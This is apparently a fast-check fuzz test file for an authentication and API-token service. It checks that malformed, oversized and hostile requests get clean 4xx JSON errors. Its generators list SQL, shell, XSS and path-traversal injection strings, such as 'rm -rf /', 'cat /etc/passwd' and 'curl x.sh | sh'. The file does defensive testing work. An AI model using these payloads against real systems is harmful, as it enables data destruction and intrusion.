/**
 * Property-based fuzzing of the account and token API with fast-check: every route gets 500
 * generated requests (malformed JSON, non-object JSON, missing fields, wrong types, unicode,
 * oversized bodies, SQL- and shell-looking values, valid-looking bodies) and must answer below 500,
 * with the JSON error envelope on every 4xx and `issues` on every validation 400.
 *
 * Each request comes from a new client address, so the per-address rate limits let the
 * validation and service paths run instead of answering 429.
 * Valid sign-ups and logins cost a PBKDF2 hash each; their share is kept small so the file
 * finishes well under 90 s (about 15-30 s on 2 cores). A failure prints fast-check's seed and the
 * shrunk request; the per-route status counts are printed as test diagnostics.
 *
 *   DATABASE_URL=postgres://root@127.0.0.1:5432/postgres node --import tsx --test test/auth/fuzz.test.ts
 */
import { after, before, describe, test, type TestContext } from "node:test";
import assert from "node:assert/strict";
import fc, { type Arbitrary } from "fast-check";
import { eq } from "drizzle-orm";
import { MAX_BODY_BYTES } from "../../functions/app";
import { issueVerificationToken } from "../../functions/auth/verification";
import { emailField, RegisterBody, usernameField } from "../../functions/auth/schemas";
import { createSession } from "../../functions/auth/sessions";
import { users } from "../../shared/db/schema";
import { bodyAt, replyOf } from "../support/api";
import { newAccount, signedInUser, startHarness, type Harness } from "../support/harness";

const RUNS = 500;

let h: Harness;
let seq = 0;
/** A new client address for every request: 10.0.0.1, 10.0.0.2, … */
function nextIp(): string {
  seq += 1;
  return `10.${(seq >> 16) & 255}.${(seq >> 8) & 255}.${seq & 255}`;
}

// ---------------------------------------------------------------- requests and checks

interface FuzzRequest {
  method: "GET" | "POST" | "DELETE";
  path: string;
  /** Raw body text; undefined: no body. */
  body?: string;
  /** Content-Type; null: the body goes as bytes, so no Content-Type is sent at all. */
  contentType?: string | null;
  headers?: Record<string, string>;
}

interface Sent {
  req: FuzzRequest;
  res: Response;
  text: string;
}

async function send(req: FuzzRequest): Promise<Sent> {
  const headers = new Headers(req.headers);
  let body: string | Uint8Array | undefined = req.body;
  if (req.body !== undefined) {
    if (req.contentType === null) body = new TextEncoder().encode(req.body);
    else headers.set("content-type", req.contentType ?? "application/json");
  }
  const res = await h.app.request(
    req.path,
    { method: req.method, headers, body: body as BodyInit | undefined },
    { incoming: { socket: { remoteAddress: nextIp() } } },
  );
  return { req, res, text: await res.text() };
}

const isJsonType = (ct: string | null | undefined) => ct === undefined || /^application\/json\s*(;.*)?$/i.test(ct ?? "");

function parses(text: string): boolean {
  try {
    JSON.parse(text);
    return true;
  } catch {
    return false;
  }
}

const LEAKS: RegExp[] = [
  /^\s*at\s+\S.*$/m, // a stack frame line
  /\bat\s+[\w.<>$]+\s+\(.*:\d+:\d+\)/, // an inline frame
  /[\w-]+\.(?:ts|tsx|js|mjs|cjs):\d+/, // file:line
  /node_modules/,
  /\/work\//,
];

/** Response text that looks like a stack trace or a source path, unless the request itself carried it. */
function leak(text: string, req: FuzzRequest): string | undefined {
  const input = `${req.path}\n${req.body ?? ""}\n${JSON.stringify(req.headers ?? {})}`;
  for (const re of LEAKS) {
    const m = text.match(re)?.[0];
    if (m !== undefined && !input.includes(m.trim())) return m;
  }
  return undefined;
}

/** encodeURIComponent that turns lone surrogates into U+FFFD instead of throwing. */
function encode(s: string): string {
  return encodeURIComponent(s.replace(/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g, "\ufffd"));
}

function describeReq(req: FuzzRequest): string {
  const body = req.body === undefined ? "" : ` body(${Buffer.byteLength(req.body)} B)=${JSON.stringify(req.body.slice(0, 300))}`;
  return `${req.method} ${req.path.slice(0, 300)} ct=${JSON.stringify(req.contentType)} headers=${JSON.stringify(req.headers ?? {}).slice(0, 300)}${body}`;
}

interface ErrorEnvelope {
  error: { code: string; message: string; requestId: string; issues?: { path: string; message: string }[] };
}

/** The checks every fuzzed answer must pass; returns the parsed JSON body (or undefined). */
function check(sent: Sent, allowed: readonly number[], options: { bodyRoute: boolean }): unknown {
  const { req, res, text } = sent;
  const where = `${describeReq(req)}\n→ ${res.status} ${text.slice(0, 400)}`;
  assert.ok(res.status < 500, `server error for ${where}`);
  assert.ok(allowed.includes(res.status), `status ${res.status} not among ${allowed.join(",")} for ${where}`);

  if (req.body !== undefined) {
    const over = Buffer.byteLength(req.body) > MAX_BODY_BYTES;
    if (over) assert.equal(res.status, 413, `a body over ${MAX_BODY_BYTES} bytes must get 413: ${where}`);
    else assert.notEqual(res.status, 413, `a body within the limit got 413: ${where}`);
    if (!over && options.bodyRoute) {
      // No Content-Type and no bytes is no body: the fields are just missing (400).
      if (req.contentType === "text/plain" || (req.contentType === null && req.body !== "")) {
        assert.equal(res.status, 415, `a non-JSON content type must get 415: ${where}`);
      } else if (isJsonType(req.contentType)) {
        assert.notEqual(res.status, 415, `a JSON content type got 415: ${where}`);
      }
    }
  }

  const leaked = leak(text, req);
  assert.equal(leaked, undefined, `stack or path text ${JSON.stringify(leaked)} in ${where}`);

  if (res.status === 204 || (res.status >= 300 && res.status < 400)) return undefined;
  assert.match(res.headers.get("content-type") ?? "", /^application\/json/, `not JSON: ${where}`);
  let json: unknown;
  assert.doesNotThrow(() => (json = JSON.parse(text)), `unparsable JSON: ${where}`);
  if (res.status < 400) return json;

  const { error } = json as Partial<ErrorEnvelope>;
  assert.ok(error && typeof error === "object", `no error object: ${where}`);
  assert.equal(typeof error.code, "string", `error.code: ${where}`);
  assert.ok(error.code.length > 0, `empty error.code: ${where}`);
  assert.equal(typeof error.message, "string", `error.message: ${where}`);
  assert.ok(error.message.length > 0, `empty error.message: ${where}`);
  assert.equal(typeof error.requestId, "string", `error.requestId: ${where}`);
  assert.ok(error.requestId.length > 0, `empty error.requestId: ${where}`);
  const headerId = res.headers.get("x-request-id");
  if (headerId !== null) assert.equal(error.requestId, headerId, `requestId differs from X-Request-Id: ${where}`);

  if (res.status === 400) {
    const jsonBody = req.body !== undefined && isJsonType(req.contentType) && parses(req.body);
    // A JSON body, a query or a path that breaks a rule: issues name the field.
    if (jsonBody || req.body === undefined || error.issues !== undefined) {
      assert.ok(Array.isArray(error.issues) && error.issues.length > 0, `400 without issues: ${where}`);
      for (const issue of error.issues) {
        assert.equal(typeof issue.path, "string", `issue.path: ${where}`);
        assert.ok(issue.path.length > 0, `empty issue.path: ${where}`);
        assert.equal(typeof issue.message, "string", `issue.message: ${where}`);
      }
    } else {
      assert.equal(error.message, "Malformed JSON in request body", `unparsable body: ${where}`);
    }
  }
  return json;
}

class Tally {
  private readonly counts = new Map<number, number>();
  add(status: number) {
    this.counts.set(status, (this.counts.get(status) ?? 0) + 1);
  }
  count(status: number) {
    return this.counts.get(status) ?? 0;
  }
  get total() {
    return [...this.counts.values()].reduce((a, b) => a + b, 0);
  }
  toString() {
    return [...this.counts.entries()]
      .sort(([a], [b]) => a - b)
      .map(([s, n]) => `${s}×${n}`)
      .join(" ");
  }
}

async function fuzz<T>(t: TestContext, arb: Arbitrary<T>, run: (value: T, tally: Tally) => Promise<void>) {
  const tally = new Tally();
  const started = performance.now();
  try {
    await fc.assert(
      fc.asyncProperty(arb, (value) => run(value, tally)),
      { numRuns: RUNS, includeErrorInReport: true },
    );
  } finally {
    t.diagnostic(`${tally.total} requests in ${Math.round(performance.now() - started)} ms: ${tally}`);
  }
}

// ---------------------------------------------------------------- generators

const sqlish = fc.constantFrom(
  "' OR 1=1 --",
  '"; DROP TABLE users; --',
  "admin'--",
  "1; SELECT pg_sleep(5)",
  "' UNION SELECT password_hash FROM users --",
  "%' OR '1'='1",
  "x@example.org' OR '1'='1",
  "\\'; DELETE FROM api_tokens; --",
);
const shellish = fc.constantFrom("$(reboot)", "`id`", "; rm -rf /", "| cat /etc/passwd", "&& curl x.sh | sh", "${IFS}$(id)", "\n/bin/sh -i");
const rtl = fc.constantFrom("مرحبا بالعالم", "שלום עולם", "\u202Egnp.exe", "\u200F\u200Eabc", "اختبار@مثال.كوم", "עברית_user", "Zoë Ñúñez");
const astral = fc.constantFrom("𝕬𝖉𝖆", "😀🎉", "𠜎𠜱𠝹", "🏳️‍🌈", "\u{10FFFF}", "𝟘𝟙𝟚", "a\u{1F600}@example.org");
const controls = fc.constantFrom("\u0000", "a\u0000b", "\u0007\u001b[31m", "\r\n", "\t", "\u00ad", "\ufeff", "\ud800", "\udfff", " ", "");
const formatish = fc.constantFrom("%s%s%n", "{{7*7}}", "<script>alert(1)</script>", "../../etc/passwd", "__proto__", "null", "undefined", "NaN", "-1", "1e309");

/** A long run of one unit: 200 B up to ~70 KB once encoded, so some bodies pass 64 KiB. */
const longString = fc
  .tuple(fc.constantFrom("a", "é", "€", "😀", "' OR 1=1 -- ", "\u0000"), fc.integer({ min: 200, max: 70_000 }))
  .map(([unit, bytes]) => unit.repeat(Math.max(1, Math.floor(bytes / Buffer.byteLength(JSON.stringify(unit).slice(1, -1))))));

const nastyString: Arbitrary<string> = fc.oneof(
  sqlish,
  shellish,
  rtl,
  astral,
  controls,
  formatish,
  fc.string({ maxLength: 40 }),
  fc.string({ unit: "binary", maxLength: 40 }),
  fc.string({ unit: "grapheme", maxLength: 20 }),
  { arbitrary: longString, weight: 1 },
);

const wrongType: Arbitrary<unknown> = fc.oneof(
  fc.integer(),
  fc.double(),
  fc.boolean(),
  fc.constant(null),
  fc.array(fc.jsonValue({ maxDepth: 2 }), { maxLength: 4 }),
  fc.dictionary(fc.string({ maxLength: 8 }), fc.jsonValue({ maxDepth: 2 }), { maxKeys: 4 }),
);

/** One field's value: a valid-looking one, a hostile string, the wrong type, or valid plus a payload. */
function field(valid: Arbitrary<unknown>, validWeight = 3): Arbitrary<unknown> {
  return fc.oneof(
    { arbitrary: valid, weight: validWeight },
    { arbitrary: nastyString, weight: 4 },
    { arbitrary: wrongType, weight: 2 },
    { arbitrary: fc.tuple(valid, nastyString).map(([v, n]) => `${String(v)}${n}`), weight: 1 },
  );
}

/** An object with some of the fields (each may be missing) and some stray keys. */
function objectOf(fields: Record<string, Arbitrary<unknown>>, missingOneIn = 4): Arbitrary<string> {
  const present = Object.fromEntries(
    Object.entries(fields).map(([k, arb]) => [k, fc.option(arb, { nil: undefined, freq: missingOneIn })]),
  );
  return fc
    .tuple(
      fc.record(present),
      fc.dictionary(fc.oneof(fc.string({ maxLength: 10 }), fc.constantFrom("__proto__", "constructor", "isAdmin", "verifiedAt", "id")), fc.jsonValue({ maxDepth: 2 }), { maxKeys: 3 }),
    )
    .map(([known, stray]) => JSON.stringify({ ...stray, ...known }));
}

const malformedJson: Arbitrary<string> = fc.oneof(
  fc.constantFrom("", "{", "}", '{"email":', "[1,", "nul", "{'a':1}", '{"a":1,}', "\u0000", "undefined", "NaN", "{\"a\":\"\\x41\"}", '{"a":01}', "{}{}", "\ufeff", "// {}"),
  fc.string({ maxLength: 60 }).filter((s) => !parses(s)),
  // A valid document cut short.
  fc.tuple(fc.jsonValue({ maxDepth: 2 }), fc.nat()).map(([v, n]) => {
    const s = JSON.stringify(v) ?? "";
    return s.slice(0, s.length > 1 ? n % (s.length - 1) + 1 : 0);
  }).filter((s) => !parses(s)),
);

const nonObjectJson: Arbitrary<string> = fc
  .oneof(
    fc.array(fc.jsonValue({ maxDepth: 2 }), { maxLength: 5 }),
    fc.integer(),
    fc.double({ noNaN: true, noDefaultInfinity: true }),
    fc.constant(null),
    fc.boolean(),
    nastyString,
  )
  .map((v) => JSON.stringify(v));

/** One big JSON document, mostly just over or under the 64 KiB limit. */
const hugeBody: Arbitrary<string> = fc
  .tuple(fc.constantFrom("email", "username", "password", "name", "x"), fc.integer({ min: MAX_BODY_BYTES - 64, max: 70_000 }))
  .map(([key, size]) => {
    const shell = JSON.stringify({ [key]: "" });
    return JSON.stringify({ [key]: "a".repeat(Math.max(0, size - shell.length)) });
  });

const contentType: Arbitrary<string | null> = fc.oneof(
  { arbitrary: fc.constant("application/json"), weight: 14 },
  { arbitrary: fc.constantFrom("application/json; charset=utf-8", "Application/JSON"), weight: 2 },
  { arbitrary: fc.constantFrom("text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x"), weight: 1 },
  { arbitrary: fc.constant(null), weight: 1 },
);

/** A body for a JSON route: `valid` bodies get `validWeight` out of ~16 + validWeight. */
function bodyOf(fields: Record<string, Arbitrary<unknown>>, valid: Arbitrary<object>, validWeight: number, missingOneIn = 4) {
  return fc.record({
    body: fc.oneof(
      { arbitrary: malformedJson, weight: 3 },
      { arbitrary: nonObjectJson, weight: 2 },
      { arbitrary: objectOf(fields, missingOneIn), weight: 10 },
      { arbitrary: hugeBody, weight: 1 },
      { arbitrary: valid.map((v) => JSON.stringify(v)), weight: validWeight },
    ),
    contentType,
  });
}

// Field values that pass the schemas (with surrounding space and upper case where the schema allows).
const validLocal = fc.stringMatching(/^[a-z0-9][a-z0-9_+-]{2,12}$/);
const validDomain = fc.stringMatching(/^[a-z][a-z0-9-]{1,10}\.[a-z]{2,6}$/);
const validEmail = fc
  .tuple(validLocal, validDomain, fc.boolean(), fc.constantFrom("", " ", "\t"))
  .map(([local, domain, upper, pad]) => `${pad}${upper ? local.toUpperCase() : local}@${domain}${pad}`);
const validUsername = fc.stringMatching(/^[a-zA-Z][a-zA-Z0-9._]{4,29}$/);
const validPassword = fc
  .tuple(fc.stringMatching(/^[a-z]{2,20}$/), fc.stringMatching(/^[A-Z]{1,10}$/), fc.nat(9999), fc.constantFrom("-", "!", "#", "€", "😀", " ", "'"))
  .map(([a, b, n, s]) => `${b}${a}${s}${n}`);
const validName = fc.constantFrom("Ada", "Grace", "Zoë", "O'Brien", "Jean-Luc", "Анна", "محمد", "李", "Mary Ann", "Ñúñez");

// ---------------------------------------------------------------- the harness and fixtures

/** Registered, not verified at first; the verify fuzzing may verify it with one of its tokens. */
let victimUnverified: { email: string; username: string; password: string; id: string };
let signedIn: { cookie: string; userId: string; email: string; username: string; password: string };
let apiSecret: string;
const verifyTokens: string[] = [];
const logoutSessions: string[] = [];
const ownTokenIds: string[] = [];
const otherTokenIds: string[] = [];

before(async () => {
  h = await startHarness();
  const s = await signedInUser(h);
  signedIn = { cookie: s.cookie, userId: s.userId, ...s.account };
  // An account that never verified: login answers 403, its verification tokens work.
  const account = newAccount();
  const reg = await h.call("POST", "/api/v1/auth/register", { body: account, ip: "192.0.2.1" });
  const regText = await reg.text();
  assert.equal(reg.status, 201, regText);
  const { user } = JSON.parse(regText) as { user: { id: string } };
  victimUnverified = { ...account, id: user.id };
  for (let i = 0; i < 6; i++) verifyTokens.push(await issueVerificationToken(h.services.kv, user.id));
  // Expired, and for an account that does not exist: 410.
  for (let i = 0; i < 3; i++) verifyTokens.push(await issueVerificationToken(h.services.kv, user.id, Date.now() - 2 * 86_400_000));
  for (let i = 0; i < 3; i++) verifyTokens.push(await issueVerificationToken(h.services.kv, crypto.randomUUID()));
  for (let i = 0; i < 10; i++) logoutSessions.push(await createSession(h.services.kv, s.userId, 0));

  const created = await h.call("POST", "/api/v1/tokens", { body: { name: "fuzz me" }, headers: { cookie: s.cookie } });
  const createdText = await created.text();
  assert.equal(created.status, 201, createdText);
  apiSecret = (JSON.parse(createdText) as { secret: string }).secret;
  for (let i = 0; i < 10; i++) {
    const r = await h.call("POST", "/api/v1/tokens", { body: { name: `to revoke ${i}` }, headers: { cookie: s.cookie } });
    ownTokenIds.push(bodyAt(await replyOf(r), 201).token.id);
  }
  const other = await signedInUser(h);
  for (let i = 0; i < 3; i++) {
    const r = await h.call("POST", "/api/v1/tokens", { body: { name: `other ${i}` }, headers: { cookie: other.cookie } });
    otherTokenIds.push(bodyAt(await replyOf(r), 201).token.id);
  }
});

after(async () => {
  await h?.close();
});

// ---------------------------------------------------------------- the properties

const latin1 = fc
  .string({
    unit: fc.oneof(fc.integer({ min: 0x20, max: 0x7e }), fc.integer({ min: 0x80, max: 0xff }), fc.constant(9)).map((c) => String.fromCharCode(c)),
    maxLength: 80,
  });
/** Header-safe versions of the hostile strings (no CR, LF, NUL; nothing above U+00FF). */
const headerNasty = fc.oneof(sqlish, shellish, formatish, latin1).map((s) => s.replace(/[^\t\x20-\x7e\x80-\xff]/g, ""));

describe("auth API under fuzzing", () => {
  test("POST /api/v1/auth/register", async (t) => {
    const fields = {
      email: field(validEmail),
      username: field(validUsername),
      password: field(validPassword),
      firstName: field(validName),
      lastName: field(validName),
    };
    const valid = fc.record({ email: validEmail, username: validUsername, password: validPassword, firstName: validName, lastName: validName });
    await fuzz(t, bodyOf(fields, valid, 1), async ({ body, contentType }, tally) => {
      const sent = await send({ method: "POST", path: "/api/v1/auth/register", body, contentType });
      tally.add(sent.res.status);
      const json = check(sent, [201, 400, 409, 413, 415, 429], { bodyRoute: true });
      if (sent.res.status === 201) {
        const input = JSON.parse(body) as { email: string; username: string };
        const { user } = json as { user: { email: string; username: string; verified: boolean } };
        assert.equal(user.email, input.email.trim().toLowerCase());
        assert.equal(user.username, input.username);
        assert.equal(user.verified, false);
      }
    });
  });

  test("POST /api/v1/auth/verify", async (t) => {
    const token = fc.oneof(
      { arbitrary: fc.constantFrom(...verifyTokens), weight: 2 },
      { arbitrary: fc.constantFrom("", "a".repeat(201), "a".repeat(200), "%00"), weight: 1 },
      { arbitrary: fc.stringMatching(/^[A-Za-z0-9_-]{43}$/), weight: 1 },
    );
    const fields = { token: field(token) };
    await fuzz(t, bodyOf(fields, fc.record({ token }), 2), async ({ body, contentType }, tally) => {
      const sent = await send({ method: "POST", path: "/api/v1/auth/verify", body, contentType });
      tally.add(sent.res.status);
      check(sent, [200, 400, 404, 410, 413, 415], { bodyRoute: true });
    });
  });

  test("GET /api/v1/auth/verify and the page it sends to", async (t) => {
    const tokenValue = fc.oneof(
      { arbitrary: fc.constantFrom(...verifyTokens), weight: 2 },
      { arbitrary: nastyString.map(encode), weight: 4 },
      { arbitrary: fc.string({ maxLength: 80 }), weight: 2 }, // raw, unencoded: & # % + space as they come
      { arbitrary: fc.constantFrom("", "%", "%E0%A4%A", "%00", "%ZZ", "a".repeat(201), "a".repeat(200), "x&token=y", "#frag"), weight: 2 },
      { arbitrary: fc.stringMatching(/^[A-Za-z0-9_-]{43}$/), weight: 1 },
    );
    const query = fc.oneof(
      { arbitrary: tokenValue.map((v) => `?token=${v}`), weight: 8 },
      { arbitrary: fc.tuple(tokenValue, tokenValue).map(([a, b]) => `?token=${a}&token=${b}`), weight: 1 },
      { arbitrary: fc.constantFrom("", "?", "?token", "?tok=abc", "?token[]=a", "?TOKEN=abc"), weight: 1 },
    );
    const arb = fc.record({ query, html: fc.boolean() });
    await fuzz(t, arb, async ({ query, html }, tally) => {
      const headers: Record<string, string> = html ? { accept: "text/html,application/xhtml+xml" } : {};
      const sent = await send({ method: "GET", path: `/api/v1/auth/verify${query}`, headers });
      tally.add(sent.res.status);
      check(sent, [302, 400], { bodyRoute: false });
      if (sent.res.status !== 302) return;
      const location = sent.res.headers.get("location") ?? "";
      assert.match(location, /^\/kws_verify\?token=/);
      // The page only asks: 200 with its form, or 303 to sign-in with a notice; it never verifies.
      const page = await send({ method: "GET", path: location, headers });
      tally.add(page.res.status);
      assert.ok([200, 303].includes(page.res.status), `page: ${page.res.status} ${page.text.slice(0, 200)}`);
      if (page.res.status === 303) assert.match(page.res.headers.get("location") ?? "", /^\/kws_signin\?notice=/);
      else assert.match(page.text, /<form method="post" action="\/kws_verify">/);
    });
  });

  test("POST /api/v1/auth/resend", async (t) => {
    const knownEmail = fc.constantFrom(signedIn.email, victimUnverified.email, signedIn.email.toUpperCase());
    const email = fc.oneof(validEmail, knownEmail);
    await fuzz(t, bodyOf({ email: field(email) }, fc.record({ email }), 2), async ({ body, contentType }, tally) => {
      const sent = await send({ method: "POST", path: "/api/v1/auth/resend", body, contentType });
      tally.add(sent.res.status);
      check(sent, [202, 400, 413, 415, 429], { bodyRoute: true });
    });
  });

  test("POST /api/v1/auth/login", async (t) => {
    const known = fc.constantFrom(
      { username: signedIn.username, password: signedIn.password },
      { username: ` ${signedIn.email.toUpperCase()} `, password: signedIn.password },
      { username: signedIn.username.toUpperCase(), password: "Wrong-Password-1" },
      { username: victimUnverified.username, password: victimUnverified.password },
    );
    const valid = fc.oneof(known, fc.record({ username: fc.oneof(validUsername, validEmail), password: validPassword }));
    // Most generated usernames and passwords are valid strings; a low weight for the valid
    // arm keeps the number of PBKDF2 checks (one per well-formed login) down.
    const fields = {
      username: field(fc.oneof(validUsername, validEmail, fc.constant(signedIn.username)), 1),
      password: field(validPassword, 1),
    };
    await fuzz(t, bodyOf(fields, valid, 1, 3), async ({ body, contentType }, tally) => {
      const sent = await send({ method: "POST", path: "/api/v1/auth/login", body, contentType });
      tally.add(sent.res.status);
      const json = check(sent, [200, 400, 401, 403, 413, 415, 429], { bodyRoute: true });
      if (sent.res.status === 200) {
        assert.ok([signedIn.userId, victimUnverified.id].includes((json as { user: { id: string } }).user.id));
        assert.match(sent.res.headers.get("set-cookie") ?? "", /^kws_session=[^;]+;.*HttpOnly/i);
      }
    });
  });

  test("POST /api/v1/auth/logout", async (t) => {
    const cookie = fc.oneof(
      { arbitrary: fc.constantFrom(...logoutSessions).map((s) => `kws_session=${s}`), weight: 1 },
      { arbitrary: headerNasty.map((s) => `kws_session=${s}`), weight: 3 },
      { arbitrary: headerNasty, weight: 2 },
      { arbitrary: fc.constantFrom("kws_session=", "kws_session", "=;=;", "kws_session=a; kws_session=b", 'kws_session="quoted"', "kws_session=%E0%A4%A"), weight: 1 },
    );
    const arb = fc.record({
      cookie: fc.option(cookie, { nil: undefined, freq: 5 }),
      body: fc.option(fc.oneof(malformedJson, nonObjectJson, hugeBody), { nil: undefined, freq: 2 }),
      contentType,
    });
    await fuzz(t, arb, async ({ cookie, body, contentType }, tally) => {
      const headers: Record<string, string> = cookie === undefined ? {} : { cookie };
      const sent = await send({ method: "POST", path: "/api/v1/auth/logout", body, contentType, headers });
      tally.add(sent.res.status);
      check(sent, [204, 413], { bodyRoute: false });
      if (sent.res.status === 204) assert.match(sent.res.headers.get("set-cookie") ?? "", /^kws_session=;/);
    });
  });

  test("GET /api/v1/me", async (t) => {
    const authorization = fc.oneof(
      { arbitrary: fc.constant(`Bearer ${apiSecret}`), weight: 1 },
      { arbitrary: fc.constantFrom(`bearer   ${apiSecret}`, `Bearer ${apiSecret} extra`, `Bearer ${apiSecret.slice(0, -1)}`, `Basic ${apiSecret}`, `Bearer ${apiSecret.toUpperCase()}`), weight: 1 },
      { arbitrary: headerNasty.map((s) => `Bearer kws_${s}`), weight: 2 },
      { arbitrary: headerNasty.map((s) => `Bearer ${s}`), weight: 2 },
      { arbitrary: headerNasty, weight: 2 },
    );
    const cookie = fc.oneof(
      { arbitrary: fc.constant(signedIn.cookie), weight: 1 },
      { arbitrary: headerNasty.map((s) => `kws_session=${s}`), weight: 3 },
      { arbitrary: headerNasty, weight: 2 },
      { arbitrary: fc.constantFrom(`${signedIn.cookie}x`, `${signedIn.cookie}; kws_session=other`, `other=1; ${signedIn.cookie}`, "kws_session=%E0%A4%A"), weight: 1 },
    );
    const arb = fc.record({
      authorization: fc.option(authorization, { nil: undefined, freq: 2 }),
      cookie: fc.option(cookie, { nil: undefined, freq: 2 }),
    });
    await fuzz(t, arb, async ({ authorization, cookie }, tally) => {
      const headers: Record<string, string> = {};
      if (authorization !== undefined) headers.authorization = authorization;
      if (cookie !== undefined) headers.cookie = cookie;
      const sent = await send({ method: "GET", path: "/api/v1/me", headers });
      tally.add(sent.res.status);
      const json = check(sent, [200, 401], { bodyRoute: false });
      if (sent.res.status === 200) assert.equal((json as { user: { id: string } }).user.id, signedIn.userId);
    });
  });
});

describe("tokens API under fuzzing (signed in)", () => {
  test("POST /api/v1/tokens", async (t) => {
    const validTokenName = fc.oneof(fc.stringMatching(/^[A-Za-z0-9][A-Za-z0-9 ._:@/-]{0,40}$/), fc.constantFrom("laptop", "ci: deploy", "Zoë's 𝟘 box", "ядро", "مفتاح"));
    const days = fc.oneof(fc.integer({ min: 1, max: 365 }), fc.integer(), fc.double(), fc.constantFrom(0, -1, 366, 1.5, 1e308, Number.MAX_SAFE_INTEGER));
    const fields = { name: field(validTokenName), expiresInDays: field(days) };
    const valid = fc.record({ name: validTokenName, expiresInDays: fc.integer({ min: 1, max: 365 }) }, { requiredKeys: ["name"] });
    await fuzz(t, bodyOf(fields, valid, 3), async ({ body, contentType }, tally) => {
      const sent = await send({ method: "POST", path: "/api/v1/tokens", body, contentType, headers: { cookie: signedIn.cookie } });
      tally.add(sent.res.status);
      const json = check(sent, [201, 400, 413, 415], { bodyRoute: true });
      if (sent.res.status === 201) {
        const { token, secret } = json as { token: { name: string; prefix: string }; secret: string };
        assert.ok(secret.startsWith(token.prefix) && secret.startsWith("kws_"));
        assert.equal(token.name, (JSON.parse(body) as { name: string }).name.trim());
      }
    });
  });

  test("DELETE /api/v1/tokens/:id", async (t) => {
    const id = fc.oneof(
      { arbitrary: fc.constantFrom(...ownTokenIds), weight: 2 },
      { arbitrary: fc.constantFrom(...ownTokenIds).map((s) => s.toUpperCase()), weight: 1 },
      { arbitrary: fc.constantFrom(...otherTokenIds), weight: 1 },
      { arbitrary: fc.uuid(), weight: 3 },
      { arbitrary: fc.constantFrom("00000000-0000-0000-0000-000000000000", "ffffffff-ffff-ffff-ffff-ffffffffffff", "00000000-0000-0000-0000-00000000000g"), weight: 1 },
      { arbitrary: nastyString.map((s) => encode(s).slice(0, 8000)), weight: 4 },
      { arbitrary: fc.constantFrom("", "%", "%E0%A4%A", "%00", "%2F", "..", "%2e%2e", "a/b", "1;DROP TABLE api_tokens", "'%20OR%201=1"), weight: 2 },
    );
    await fuzz(t, fc.record({ id }), async ({ id }, tally) => {
      const sent = await send({ method: "DELETE", path: `/api/v1/tokens/${id}`, headers: { cookie: signedIn.cookie } });
      tally.add(sent.res.status);
      check(sent, [204, 400, 404], { bodyRoute: false });
      if (sent.res.status === 204) assert.ok(ownTokenIds.includes(id.toLowerCase()), `revoked a token that is not ours: ${id}`);
    });
  });
});

describe("hand-written cases", () => {
  test("register with Content-Type text/plain and a JSON body: 415 envelope, no account", async () => {
    const account = newAccount();
    const sent = await send({ method: "POST", path: "/api/v1/auth/register", body: JSON.stringify(account), contentType: "text/plain" });
    check(sent, [415], { bodyRoute: true });
    const { error } = JSON.parse(sent.text) as ErrorEnvelope;
    assert.equal(error.code, "unsupported_media_type");
    const rows = await h.services.db.select().from(users).where(eq(users.email, account.email));
    assert.equal(rows.length, 0);
  });

  test("a body of 64 KiB + 1 bytes: 413 envelope, with and without Content-Length", async () => {
    const body = JSON.stringify({ email: "a".repeat(MAX_BODY_BYTES + 1 - '{"email":""}'.length) });
    assert.equal(Buffer.byteLength(body), MAX_BODY_BYTES + 1);
    const variants: Record<string, string>[] = [{}, { "content-length": String(MAX_BODY_BYTES + 1) }];
    for (const headers of variants) {
      for (const path of ["/api/v1/auth/register", "/api/v1/auth/login", "/api/v1/auth/resend"]) {
        const sent = await send({ method: "POST", path, body, headers });
        check(sent, [413], { bodyRoute: true });
        const { error } = JSON.parse(sent.text) as ErrorEnvelope;
        assert.equal(error.code, "payload_too_large");
      }
    }
  });

  test("a body of exactly 64 KiB is read (400 for the field, not 413)", async () => {
    const body = JSON.stringify({ email: "a".repeat(MAX_BODY_BYTES - '{"email":""}'.length) });
    assert.equal(Buffer.byteLength(body), MAX_BODY_BYTES);
    const sent = await send({ method: "POST", path: "/api/v1/auth/resend", body });
    check(sent, [400], { bodyRoute: true });
    assert.equal((JSON.parse(sent.text) as ErrorEnvelope).error.issues?.[0]?.path, "email");
  });

  // Found by this file: a NUL reached PostgreSQL ("invalid byte sequence") and answered 500.
  test("login with NUL or control characters in the username: 4xx, not 500", async () => {
    for (const username of ["a\u0000b", "\u0000", `${signedIn.username}\u0000`, "a\u0001", "\u007f", "\u001b[31m"]) {
      const sent = await send({ method: "POST", path: "/api/v1/auth/login", body: JSON.stringify({ username, password: "x" }) });
      check(sent, [400, 401], { bodyRoute: true });
    }
  });

  test("after the fuzzing, every stored account passes the schema rules", async () => {
    const rows = await h.services.db.select().from(users);
    assert.ok(rows.length >= 3, `only ${rows.length} accounts`);
    for (const row of rows) {
      const email = emailField.safeParse(row.email);
      assert.ok(email.success, `stored e-mail ${JSON.stringify(row.email)} breaks the schema`);
      assert.equal(email.data, row.email, `stored e-mail ${JSON.stringify(row.email)} is not normalised`);
      assert.ok(usernameField.safeParse(row.username).success, `stored username ${JSON.stringify(row.username)} breaks the schema`);
      assert.ok(RegisterBody.shape.firstName.safeParse(row.firstName).success, `stored firstName ${JSON.stringify(row.firstName)}`);
      assert.ok(RegisterBody.shape.lastName.safeParse(row.lastName).success, `stored lastName ${JSON.stringify(row.lastName)}`);
      assert.match(row.passwordHash, /^pbkdf2-sha256-chain\$\d+\$[\w-]+\$[\w-]+$/);
    }
  });
});
